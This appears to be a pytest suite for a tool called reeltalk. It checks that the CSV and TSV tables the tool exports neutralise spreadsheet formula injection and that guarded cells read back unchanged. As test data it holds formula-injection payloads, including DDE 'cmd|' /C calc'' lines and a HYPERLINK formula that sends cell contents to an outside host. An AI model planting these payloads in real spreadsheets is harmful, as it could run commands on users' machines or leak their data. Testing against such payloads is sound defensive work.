"""No table that reeltalk writes runs anything in a spreadsheet, and what it reads again is as it was."""

import csv
import json
from pathlib import Path

import pytest
from reliability_page import Reliability

from reeltalk.cli import run
from reeltalk.formats.table_rows import read_table, write_table_rows
from reeltalk.store.benchmark import Benchmark
from reeltalk.store.text_tables import write_csv

FORMULAS = (
    '=HYPERLINK("http://example.org/?"&A1,"open")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\uff1d1+1",
    "=1",
    "'=1",
)
"""What others write, and a text that begins as a guarded one does."""
LIKE_NUMBERS = ("-1", "+2.5", "-3e4", "5 %", "- ", "a=1", "'", "-")


def runs_in_a_spreadsheet(cell: str) -> bool:
    try:
        float(cell.replace(",", ""))
    except ValueError:
        return cell[:1] in set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
    return False


def cells_of(path: Path) -> list[str]:
    delimiter = "\t" if path.suffix == ".tsv" else ","
    with path.open(encoding="utf-8", newline="") as stream:
        return [cell for row in csv.reader(stream, delimiter=delimiter, strict=True) for cell in row]


def test_no_table_of_a_command_holds_a_formula_of_others(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], reliability: Reliability
) -> None:
    tally = reliability("data", "cells of tables that commands write about texts like formulas",
                        "a spreadsheet would run one")  # fmt: skip
    monkeypatch.chdir(tmp_path)
    rows = [
        {"video": f"v{number}", "id": f"q{number}", "question": f"{formula} what?", "answer": formula, "note": formula,
         "correct": "A", "type": formula, "option_a": formula, "option_b": "b", "=cmd": formula}
        for number, formula in enumerate(FORMULAS * 2)
    ]  # fmt: skip
    Path("questions.json").write_text(json.dumps(rows))
    assert run(["import", "qa", "questions.json", "bench"]) == 0
    answers = [{"id": row["id"], "text": f"{row['answer']}\r=1+1", "model": "=evil()"} for row in rows]
    Path("answers.json").write_text(json.dumps(answers))
    for name, judge in (("one", "choice"), ("two", "choice")):
        played = ["evaluate", "bench", "--model", "answers:answers.json", "--protocols", judge, "--metrics", "rouge_l"]
        assert run([*played, "--out", f"runs/{name}"]) == 0
    (tmp_path / "wrong.csv").write_text("video,question,answer,when\nv1,=1+1,=2,x\nv1,=1+1,=3,x\n,=4,=5,y\n")
    commands = {
        "export qa .csv": ["export", "qa", "bench", "tables/questions.csv"],
        "export qa .tsv": ["export", "qa", "bench", "tables/questions.tsv"],
        "export qa": ["export", "qa", "bench", "tables/qa"],
        "export questions": ["export", "questions", "bench", "tables/asked.csv"],
        "report": ["report", "runs/one", "--bench", "bench", "--tables", "csv", "--out", "tables/site"],
        "report --format": ["report", "runs/one", "--format", "csv", "--out", "tables/leaderboard.csv"],
        "compare": ["compare", "runs/one", "runs/two", "--format", "csv", "--out", "tables/comparison.csv"],
        "calibrate": ["calibrate", "runs/one", "--sheet", "tables/ratings.csv"],
        "construct": ["construct", "bench", "--sheet", "tables/sheet"],
        "import": ["import", "qa", "wrong.csv", "tables/wrong"],
    }
    Path("tables").mkdir()
    for command in commands.values():
        run(command)
    capsys.readouterr()
    found = {path.relative_to(tmp_path): cells_of(path) for path in Path("tables").absolute().rglob("*.[ct]sv")}
    assert len(found) > 8, found.keys()
    wrong = [f"{path}: {cell}" for path, cells in found.items() for cell in cells if runs_in_a_spreadsheet(cell)]
    tally.tried, tally.failed = sum(map(len, found.values())), len(wrong)
    assert wrong == []
    # What is read again is as it was.
    for table in ("questions.csv", "questions.tsv"):
        for fix in ((), ("--fix",)):
            assert run(["import", "qa", f"tables/{table}", f"again/{table}{len(fix)}", *fix]) == 0
            assert Benchmark.open(Path(f"again/{table}{len(fix)}")).content().dialogues == (
                Benchmark.open(Path("bench")).content().dialogues
            )


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_a_table_comes_back_as_it_went(suffix: str, tmp_path: Path) -> None:
    """Guards are numbered, so a text of others with an apostrophe in front keeps it."""
    path = tmp_path / f"table{suffix}"
    rows = [
        {"=a": text, "b": "b", "c": [text, "plain"]}
        for text in (*FORMULAS, *LIKE_NUMBERS, "\t=1", "\r=1", "'-ing' what?")
    ]
    write_table_rows(path, rows)
    assert not any(map(runs_in_a_spreadsheet, cells_of(path)))
    read = read_table(path, repeated=True)
    assert read.header == ["=a", "b", "c", "c"]
    assert [row.cells for row in read.rows] == rows
    (plain := tmp_path / f"plain{suffix}").write_text(f"guarded{chr(9) if suffix == '.tsv' else ','}b\n'=1\t,2\n")
    assert "guarded" in read_table(plain, faults=[]).header
    write_table_rows(path, [{"a": "1", "b": "-2"}])
    assert "guarded" not in path.read_text()


def test_a_number_is_no_formula() -> None:
    text = write_csv(("a", "b"), [(-1, "-1"), (-0.5, "+2.5e-3"), (None, "-1,000.5"), (True, "=-1"), ("-x", "-")])
    assert text == "a,b\n-1,-1\n-0.5,+2.5e-3\n,\"-1,000.5\"\nTrue,'=-1\n'-x,'-\n"
